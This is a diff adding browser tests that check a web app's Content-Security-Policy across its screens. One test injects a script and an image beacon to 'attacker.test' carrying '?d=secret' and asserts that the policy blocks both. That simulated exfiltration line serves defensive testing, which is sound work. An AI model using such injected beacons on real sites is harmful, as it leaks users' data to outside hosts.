@@ -1,7 +1,9 @@
 import { bearer } from '@wingmate/api/testing';
+import type { BrowserContext } from 'playwright-core';
 import { expectNoAxeViolations } from './support/axe';
 import { chromiumAvailable, launchChromium } from './support/browser';
 import { enterCard, VISA } from './support/card';
+import { policyViolationsOf, recordPolicyViolations } from './support/content-security';
 import { seededBannerId } from './support/frame-setup';
 import { emailMember, signInBrowser, type MemberTokens } from './support/members';
 import { layoutShiftSince, observeLayoutShifts } from './support/layout-shifts';
@@ -10,6 +12,7 @@ import { startProductionStart } from './support/product';
 import { sendAndReadReply } from './support/replies';
 import { saveScreenshot } from './support/screenshots';
 import { setUpBrowserSuite } from './support/suite';
+import { everyScreenPath } from './support/web-screens';
 
 const describeInBrowser = chromiumAvailable() ? describe : describe.skip;
 
@@ -90,5 +93,102 @@ describeInBrowser('the page of the production start (the API serving the web bui
     } finally {
       await browser.close();
     }
+  });
+
+  // docs/decisions.md, "The browser's defences": the pages' Content-Security-Policy.
+  describe('the Content-Security-Policy', () => {
+    /** The first questionnaire the API lists (the seeds make two). */
+    async function firstQuestionnaireId(): Promise<number> {
+      const response = await suite.product.api.app.inject({
+        method: 'GET',
+        url: '/api/v1/accounts/questionnaires/?uid=0f9d3c2e-5b7a-4e11-8c3d-2a1b0c9d8e7f',
+      });
+      return response.json<{ results: { id: number }[] }>().results[0]!.id;
+    }
+
+    /**
+     * Opens `path` in a new page of `context`, waits until it has drawn and loaded all it loads, and expects the
+     * page to have come with the policy and to have broken none of it. Answers the path the page ended on (a
+     * members-only screen sends a visitor to sign in).
+     */
+    async function visitWithoutViolations(context: BrowserContext, path: string): Promise<string> {
+      const page = await context.newPage();
+      const consoleLines: string[] = [];
+      page.on('console', (message) => consoleLines.push(message.text()));
+      try {
+        const response = await page.goto(`${suite.product.webUrl}${path}`);
+        expect(response?.headers()['content-security-policy']).toMatch(/script-src 'self' 'sha256-/);
+        await page.waitForFunction(() => document.documentElement.classList.contains('fonts-ready'));
+        await page.getByRole('heading', { level: 1 }).first().waitFor();
+        await page.waitForLoadState('networkidle');
+        expect({ path, violations: await policyViolationsOf(page, consoleLines) }).toEqual({
+          path,
+          violations: [],
+        });
+        return new URL(page.url()).pathname;
+      } finally {
+        await page.close();
+      }
+    }
+
+    it('opens every screen of the route table, as a visitor and as a member where it wants one, with no violation', async () => {
+      const paths = everyScreenPath({ planId: (await cheapestPack()).id, id: await firstQuestionnaireId() });
+      expect(paths).toEqual(
+        expect.arrayContaining([
+          '/',
+          '/chat',
+          '/verify',
+          '/bio/photos',
+          '/checkout/top-up',
+          '/no-such-screen',
+        ]),
+      );
+      const visitor = await suite.newContext();
+      await recordPolicyViolations(visitor);
+      const member = await suite.newContext();
+      await recordPolicyViolations(member);
+      await signInBrowser(
+        member,
+        suite.product.webUrl,
+        await emailMember(suite.product, { emailPrefix: 'e2e-policy' }),
+      );
+      const asMember: string[] = [];
+      for (const path of paths) {
+        const landed = await visitWithoutViolations(visitor, path);
+        if (landed !== path) {
+          asMember.push(path);
+          await visitWithoutViolations(member, path);
+        }
+      }
+      // The members-only screens were seen as their members see them.
+      expect(asMember).toEqual(expect.arrayContaining(['/account', '/checkout/top-up']));
+    });
+
+    it('refuses a script and a remote image the page did not bring, and reports both', async () => {
+      const context = await suite.newContext();
+      await recordPolicyViolations(context);
+      await chooseNecessaryCookies(context);
+      const { page } = await openPage(context, `${suite.product.webUrl}/chat`, { heading: 'Chat' });
+      // A request the policy refuses never reaches the network, where this route would see it.
+      const outside: string[] = [];
+      await context.route('http://attacker.test/**', (route) => {
+        outside.push(route.request().url());
+        return route.abort();
+      });
+      const ran = await page.evaluate(() => {
+        const script = document.createElement('script');
+        script.textContent = 'window.name = "injected"';
+        document.head.append(script);
+        const image = new Image();
+        image.src = 'http://attacker.test/pixel.png?d=secret';
+        document.body.append(image);
+        return window.name === 'injected';
+      });
+      expect(ran).toBe(false);
+      await page.waitForFunction(() => (window.__policyViolations ?? []).length >= 2);
+      const directives = (await policyViolationsOf(page, [])).map((violation) => violation.directive);
+      expect(directives).toEqual(expect.arrayContaining(['script-src-elem', 'img-src']));
+      expect(outside).toEqual([]);
+    });
   });
 });
